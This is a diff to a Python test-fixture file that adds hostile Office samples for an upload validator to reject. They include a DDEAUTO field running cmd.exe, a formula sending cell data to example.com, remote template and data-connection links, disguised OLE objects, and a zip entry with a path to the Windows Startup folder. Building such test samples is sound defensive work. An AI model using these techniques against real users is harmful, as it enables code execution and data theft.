@@ -548,6 +548,160 @@ def hostile_office_files():
     ]
 
 
+SHEET_CONTENT_TYPE = (
+    "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
+)
+STRICT_WORD_NS = b"http://purl.oclc.org/ooxml/wordprocessingml/main"
+STRICT_SHEET_NS = b"http://purl.oclc.org/ooxml/spreadsheetml/main"
+DDE_FIELD = (
+    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> '
+    b'DDEAUTO c:\\\\Windows\\\\system32\\\\cmd.exe "/c calc"</w:instrText></w:r>'
+    b'<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+)
+FORMULA_CELL = b'<c r="B2"><f>HYPERLINK("https://example.com/?"&amp;A1,"Voir")</f></c>'
+
+
+def moved_sheet_xlsx():
+    """A workbook whose sheet lies in xl/feuilles/, as its relationships and
+    content types say: Excel opens it and runs its formula."""
+    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(FORMULA_CELL))) as archive:
+        sheet = archive.read("xl/worksheets/sheet1.xml")
+        workbook = archive.read("xl/workbook.xml")
+    workbook = workbook.replace(
+        b'sheetId="1"/>',
+        b'sheetId="1" r:id="rId1"/>',
+    ).replace(
+        b"<workbook ", b'<workbook xmlns:r="' + RELATIONSHIP_TYPES.encode() + b'" '
+    )
+    return zip_bytes(
+        {
+            "[Content_Types].xml": CONTENT_TYPES.replace(
+                b"</Types>",
+                b'<Override PartName="/xl/feuilles/sheet1.xml" ContentType="'
+                + SHEET_CONTENT_TYPE.encode()
+                + b'"/></Types>',
+            ),
+            "_rels/.rels": relationships(("officeDocument", "xl/workbook.xml", False)),
+            "xl/workbook.xml": workbook,
+            "xl/_rels/workbook.xml.rels": relationships(
+                ("worksheet", "feuilles/sheet1.xml", False)
+            ),
+            "xl/feuilles/sheet1.xml": sheet,
+        }
+    )
+
+
+def moved_document_docx(body=DDE_FIELD):
+    """A Word document whose main part is contenu/document.xml."""
+    entries = docx_entries()
+    document = entries.pop("word/document.xml").replace(
+        b"</w:body>", body + b"</w:body>"
+    )
+    del entries["word/_rels/document.xml.rels"]
+    return zip_bytes(
+        {
+            **entries,
+            "_rels/.rels": relationships(
+                ("officeDocument", "contenu/document.xml", False)
+            ),
+            "contenu/document.xml": document,
+            "contenu/_rels/document.xml.rels": relationships(),
+            "word/styles.xml": b'<w:styles xmlns:w="' + WORD_NS + b'"/>',
+        }
+    )
+
+
+def strict_docx(body=b""):
+    """A Word document in Strict OOXML (other namespaces)."""
+    with zipfile.ZipFile(io.BytesIO(docx_bytes(body))) as archive:
+        entries = {name: archive.read(name) for name in archive.namelist()}
+    entries["word/document.xml"] = entries["word/document.xml"].replace(
+        WORD_NS, STRICT_WORD_NS
+    )
+    return zip_bytes(entries)
+
+
+def strict_xlsx(cell):
+    with zipfile.ZipFile(io.BytesIO(xlsx_bytes(cell))) as archive:
+        entries = {name: archive.read(name) for name in archive.namelist()}
+    ns = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
+    return zip_bytes(
+        {
+            name: content.replace(ns, STRICT_SHEET_NS)
+            for name, content in entries.items()
+        }
+    )
+
+
+def unicode_path_docx(real_name, shown_name="word/media/notes.txt"):
+    """A Word document holding an entry whose Info-ZIP Unicode Path field
+    names it otherwise than its header does."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, content in docx_entries().items():
+            archive.writestr(name, content)
+        info = zipfile.ZipInfo(shown_name)
+        name = real_name.encode()
+        info.extra = (
+            struct.pack(
+                "<HHBI", 0x7075, 5 + len(name), 1, zlib.crc32(shown_name.encode())
+            )
+            + name
+        )
+        archive.writestr(info, b"@echo off\r\ncalc\r\n")
+    return buffer.getvalue()
+
+
+def hidden_office_files():
+    """Active content in parts Word and Excel find wherever they lie, in
+    Strict OOXML, or under names the first checks did not expect."""
+    return [
+        ("feuille-deplacee.xlsx", moved_sheet_xlsx(), "formules"),
+        ("document-deplace.docx", moved_document_docx(), "macros"),
+        ("dde-strict.docx", strict_docx(DDE_FIELD), "macros"),
+        ("formule-strict.xlsx", strict_xlsx(FORMULA_CELL), "formules"),
+        (
+            "rels-majuscules.docx",
+            docx_bytes(
+                **{
+                    "word/settings.xml": b'<w:settings xmlns:w="' + WORD_NS + b'"/>',
+                    "word/_rels/settings.xml.RELS": relationships(
+                        ("attachedTemplate", "https://example.com/modele.dotm", True)
+                    ),
+                }
+            ),
+            "autre adresse",
+        ),
+        (
+            "objet-ole.docx",
+            docx_bytes(**{"word/embeddings/oleObject1.dat": OLE_DOC}),
+            "programmes",
+        ),
+        (
+            "objet-renomme.docx",
+            docx_bytes(**{"word/media/image9.png": OLE_DOC}),
+            "programmes",
+        ),
+        (
+            "connexion.xlsx",
+            xlsx_bytes(
+                **{
+                    "xl/connections.xml": b'<connections xmlns="http://schemas.'
+                    b'openxmlformats.org/spreadsheetml/2006/main"><connection id="1" '
+                    b'name="q" type="4" refreshOnLoad="1"><webPr url="https://'
+                    b'example.com/data"/></connection></connections>'
+                }
+            ),
+            "autre adresse",
+        ),
+        (
+            "nom-unicode.docx",
+            unicode_path_docx("../../../Startup/x.bat"),
+            "noms dangereux",
+        ),
+    ]
+
+
 XML_BOMB = (
     b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaaaaaaaa"><!ENTITY b '
     b'"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><Relationships>&b;</Relationships>'
@@ -764,6 +918,9 @@ def second_pass():
         ),
         Sample("restreint.pdf", encrypted_pdf(to_open=False), "document", True),
         Sample("notes.xlsx", xlsx_bytes(), "document", True),
+        Sample("strict.docx", strict_docx(), "document", True),
+        Sample("strict.xlsx", strict_xlsx(b""), "document", True),
+        Sample("deplace.docx", moved_document_docx(body=b""), "document", True),
         Sample("notes.ods", ods_bytes(), "document", True),
         Sample(
             "annuaire.csv",
@@ -806,6 +963,10 @@ def second_pass():
         *(
             Sample(name, data, "document", False, "noms dangereux")
             for name, data in hostile_archives()
+        ),
+        *(
+            Sample(name, data, "document", False, message)
+            for name, data, message in hidden_office_files()
         ),
         Sample("grande.png", png_of_size(6000, 6000), "image", False, "mémoire"),
         Sample("animation.png", animation_bytes(), "image", False, "image"),
